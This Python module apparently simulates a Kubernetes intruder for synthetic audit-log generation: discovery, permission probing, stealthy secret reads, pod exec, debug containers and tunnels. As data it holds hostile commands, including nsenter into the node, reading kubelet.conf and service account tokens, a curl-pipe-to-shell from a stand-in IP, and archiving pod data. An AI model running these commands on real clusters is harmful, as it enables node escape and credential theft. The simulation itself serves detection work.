"""An intruder with an identity in, what it finds out and takes out.

Separate from what it leaves behind: discovery, secrets, commands in pods, tunnels.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import orjson

from models.simulate.record import Request
from models.simulate.sessions import open_shell
from models.simulate.timeline import DAY, MINUTE, SECOND
from models.simulate.traffic import SECRETS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from models.simulate.intruder import Intruder

_ASKED: Final = (
    ("list", "secrets"),
    ("create", "pods"),
    ("create", "pods/exec"),
    ("create", "clusterrolebindings"),
    ("impersonate", "users"),
    ("get", "nodes/proxy"),
)
_FORBIDDEN: Final = 403


def discover(intruder: Intruder) -> Iterator[int]:
    """Ask what one may do, and what there is."""
    for path in ("/version", "/api", "/apis"):
        intruder.ask(Request("get", path))
        yield intruder.later(0.2)
    rules = orjson.dumps({"kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}})
    intruder.ask(Request("create", "selfsubjectrulesreviews", asked=rules, answered=rules))
    yield intruder.later()
    for verb, resource in _ASKED:
        asked = orjson.dumps(
            {
                "kind": "SelfSubjectAccessReview",
                "apiVersion": "authorization.k8s.io/v1",
                "spec": {"resourceAttributes": {"verb": verb, "resource": resource}},
            }
        )
        intruder.ask(Request("create", "selfsubjectaccessreviews", asked=asked, answered=asked))
        yield intruder.later(0.2)
    for resource in ("namespaces", "pods", "services"):
        intruder.ask(Request("list", resource, query="?limit=500"))
        yield intruder.later()


def probe_denied(intruder: Intruder) -> Iterator[int]:
    """Try one resource after the other; most is refused."""
    for resource in ("secrets", "nodes", "clusterroles", "pods", "configmaps", "jobs", "roles"):
        for namespace in (None, intruder.namespace):
            code = 200 if namespace and resource == "pods" else _FORBIDDEN
            request = Request("list", resource, namespace, query="?limit=500", code=code)
            intruder.ask(request)
            yield intruder.later(0.3)


def probe_anonymously(intruder: Intruder) -> Iterator[int]:
    """Knock at well-known doors."""
    for path in ("/version", "/api", "/apis", "/openapi/v2", "/metrics", "/logs", "/swagger.json"):
        intruder.ask(Request("get", path, code=200 if path == "/version" else _FORBIDDEN))
        yield intruder.later(0.3)
    for resource in ("secrets", "pods", "nodes"):
        intruder.ask(Request("list", resource, code=_FORBIDDEN))
        yield intruder.later(0.3)


def list_secrets(intruder: Intruder) -> Iterator[int]:
    """List the secrets of the whole cluster."""
    intruder.ask(Request("list", "secrets", query="?limit=500"))
    yield intruder.later()


def read_secrets(intruder: Intruder) -> Iterator[int]:
    """Read secrets one after the other, also of other namespaces."""
    names = [(space, name) for space in intruder.cluster.namespaces[-4:] for name in SECRETS]
    for namespace, name in intruder.chance.sample(names, k=12):
        intruder.ask(Request("get", "secrets", namespace, name))
        yield intruder.later(0.4)


def read_secrets_slowly(intruder: Intruder) -> Iterator[int]:
    """Read a secret now and then, over days, as few as nobody counts."""
    names = [(space, name) for space in intruder.cluster.namespaces[-4:] for name in SECRETS]
    days = intruder.cluster.settings.days / 8
    for namespace, name in intruder.chance.sample(names, k=9):
        intruder.ask(Request("get", "secrets", namespace, name))
        yield intruder.cluster.now_us + int(days * DAY / 9 * intruder.chance.uniform(0.4, 1.5))


def read_configmaps(intruder: Intruder) -> Iterator[int]:
    """Look for credentials where they should not be."""
    intruder.ask(Request("list", "configmaps", query="?limit=500"))
    yield intruder.later()
    for namespace in intruder.cluster.namespaces[-4:]:
        intruder.ask(Request("get", "configmaps", namespace, "app-config"))
        yield intruder.later(0.3)


def _run(intruder: Intruder, *commands: tuple[str, ...], privileged: bool) -> Iterator[int]:
    found = intruder.pod(privileged=privileged)
    if found is None:
        return
    workload, pod = found
    place = (workload.namespace, pod.name)
    intruder.ask(Request("get", "pods", *place))
    for command in commands:
        cluster = intruder.cluster
        open_shell(cluster, intruder.caller, place, command, intruder.label, long_us=20 * SECOND)
        yield intruder.later()


def exec_privileged(intruder: Intruder) -> Iterator[int]:
    """Run commands in a privileged pod, towards its node."""
    yield from _run(
        intruder,
        ("nsenter", "-t", "1", "-m", "-u", "-n", "sh"),
        ("cat", "/host/etc/kubernetes/kubelet.conf"),
        privileged=True,
    )


def exec_token(intruder: Intruder) -> Iterator[int]:
    """Read a pod's token by a command."""
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
    yield from _run(intruder, ("id",), ("cat", token), privileged=False)


def exec_install(intruder: Intruder) -> Iterator[int]:
    """Install tools in a running pod."""
    yield from _run(
        intruder,
        ("apt-get", "install", "-y", "nmap"),
        ("sh", "-c", "curl -s http://203.0.113.66/x.sh | sh"),
        privileged=False,
    )


def exec_copy(intruder: Intruder) -> Iterator[int]:
    """Copy data out of a pod as an archive."""
    yield from _run(intruder, ("tar", "cf", "-", "/var/lib/data"), privileged=False)


def debug_container(intruder: Intruder) -> Iterator[int]:
    """Add a container to a running pod, and attach to it."""
    found = intruder.pod()
    if found is None:
        return
    workload, pod = found
    place = (workload.namespace, pod.name)
    container = {
        "name": intruder.mark("debugger"),
        "image": "docker.io/nicolaka/netshoot:latest",
        "command": ["sh"],
        "stdin": True,
        "tty": True,
        "targetContainerName": workload.name,
    }
    body = orjson.dumps({"spec": {"ephemeralContainers": [container]}})
    intruder.ask(Request("patch", "pods/ephemeralcontainers", *place, asked=body, answered=body))
    yield intruder.later()
    attach = Request("get", "pods/attach", *place, "?stdin=true", 101, long_us=4 * MINUTE)
    intruder.ask(attach)
    yield intruder.later()


def forward_port(intruder: Intruder) -> Iterator[int]:
    """Open a tunnel to a pod."""
    found = intruder.pod()
    if found is None:
        return
    workload, pod = found
    place = (workload.namespace, pod.name)
    intruder.ask(Request("get", "pods/portforward", *place, code=101, long_us=15 * MINUTE))
    yield intruder.later()


def reach_kubelet(intruder: Intruder) -> Iterator[int]:
    """Speak to kubelets through the API server."""
    for node in intruder.chance.sample(intruder.cluster.nodes, k=2):
        for path in ("/pods", "/configz", "/run/kube-system"):
            intruder.ask(Request("get", "nodes/proxy", None, node.name, path))
            yield intruder.later(0.4)


def read_as_usual(intruder: Intruder) -> Iterator[int]:
    """Do what people do all day: only the hour and the place are wrong."""
    for resource in ("pods", "deployments", "events"):
        intruder.ask(Request("list", resource, intruder.namespace, query="?limit=500"))
        yield intruder.later()


def act_off_peer(intruder: Intruder) -> Iterator[int]:
    """Ask what none of the pod's peers ever asks, a little at a time."""
    for verb, resource in (
        ("list", "nodes"),
        ("list", "clusterrolebindings"),
        ("list", "secrets"),
        ("get", "serviceaccounts"),
        ("list", "networkpolicies"),
    ):
        name = "default" if verb == "get" else None
        intruder.ask(Request(verb, resource, intruder.namespace, name))
        yield intruder.later(3)
